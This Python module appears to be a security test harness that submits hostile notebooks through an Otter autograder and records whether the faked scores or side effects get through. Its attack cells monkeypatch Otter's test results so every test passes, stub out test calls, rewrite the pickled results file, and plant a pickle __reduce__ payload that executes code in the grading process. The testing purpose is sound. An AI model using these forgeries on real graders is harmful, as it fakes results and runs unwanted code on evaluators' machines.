"""The same attacks through the autograder that Gradescope takes, as Otter runs it on this machine.

There are no walls: the notebook runs in an ordinary kernel, and the verdict falls in it. What a
container of Gradescope's makes harmless is not tried here: services, processes and files of this
machine are not in it, and it is thrown away after each notebook.
"""

from __future__ import annotations

import time
from collections.abc import Callable

from grading.make import assignment
from grading.make.lab import Lab
from grading.run import otter_run

from .outside import Outside
from .record import Attack, Seen, changed, heard, killed, points, stays
from .suite import Result, Suite, standing

SECONDS = 120
# The checks are imported anew for each test, and compare with plain operators.
STAND = {"checks", "patches"}
PROBES = {points, changed, heard, killed, stays}
# Attacks that need the objects of our own grader's process.
OURS = ("Worker", "JSONEncoder", "def pipes", "'done'")
# Of each kind of attack on the machine, one.
MACHINE = {"write_file", "unix_socket", "tcp", "kill", "daemon", "shared_memory", "temporary_files"}


def attacks() -> list[Attack]:
    """Forgeries of Otter's own word."""

    def one(name, tries, cell, probe=points):
        return Attack(name, tries, ("verdict",), probe, cell, "hand_in()", "wrong", words=False)

    return [
        one("otter_passed", "Otter's results of test cases say that all is passed",
            "from otter.test_files import exception_test\n"
            "first = exception_test.TestCaseResult\n"
            "exception_test.TestCaseResult = lambda test_case, message, passed: first(\n"
            "    test_case=test_case, message=message, passed=True)\n"),
        one("otter_test", "the code of a test is taken out when it is called",
            "from otter.test_files import exception_test\n"
            "exception_test.test_case.call_func = lambda self, names: None\n"),
        one("otter_result", "the file with the results is written by the notebook itself",
            "import pickle\nfirst = pickle.dump\n"
            "def dump(results, file, *args, **options):\n"
            "    for test in results.results.values():\n"
            "        for one in test.test_case_results:\n            one.passed = True\n"
            "    return first(results, file, *args, **options)\npickle.dump = dump\n"),
        one("otter_pickle", "the results, when they are read, run code in the grading process",
            "import pickle\nfirst = pickle.dump\nCODE = (\n"
            "    \"if b'otter_run' in open('/proc/self/cmdline', 'rb').read():\\n\"\n"
            "    f\"    open({AIM['victim']!r}, 'a').write('by the grading process')\")\n"
            "class Runs:\n    def __reduce__(self):\n        return exec, (CODE,)\n"
            "pickle.dump = lambda results, file, *args: first(Runs(), file)\n", changed),
    ]


def try_all(lab: Lab, outside: Outside, chosen: list[Attack], say: Callable) -> list[Result]:
    """Build the assignment once, and hand in each notebook by itself."""
    dist = assignment.build(lab.number, outside.place / "dist", root=lab.root)
    zipped = dist / "autograder" / f"lab{lab.number}_autograder.zip"
    suite = Suite(lab, outside, say=say)
    suite.stand = standing() & STAND
    source = outside.place / "otter"
    source.mkdir()
    fit = [a for a in chosen if a.file is None and a.probe in PROBES
           and (a.probe is points or a.name in MACHINE)
           and not any(word in a.cell + a.last for word in OURS)]
    return [_one(suite, attack, zipped, source) for attack in [*fit, *attacks()]]


def _one(suite: Suite, attack: Attack, zipped, source) -> Result:
    start, outside = time.monotonic(), suite.outside
    aim = outside.aim(attack, suite.lab, source)
    path = source / f"{attack.name}.ipynb"
    path.write_text(suite._hostile(attack, aim))
    told, got = "", {}
    try:
        got = otter_run.grade(path, zipped, seconds=SECONDS)
    except otter_run.OtterFailed as error:
        told = str(error)[-200:]
    total = sum(one["score"] for one in got.values())
    row = {"total": total, "most": suite.lab.total} if got else None
    seen = Seen(attack, outside.aims[attack.name], row, list(outside.heard),
                left=outside.left(attack.name), dead=outside.strangers_hurt(), out=source)
    suite.say(f"{attack.name}: {time.monotonic() - start:.0f} s")
    result = Result(
        attack.name, "otter", attack.tries, list(attack.walls),
        sorted(set(attack.walls) & suite.stand), attack.probe(seen),
        f"{total:g}/{suite.lab.total:g}" if got else "no result", True, seen.left, told=told,
        lab=suite.lab.number)
    outside.clean()
    return result
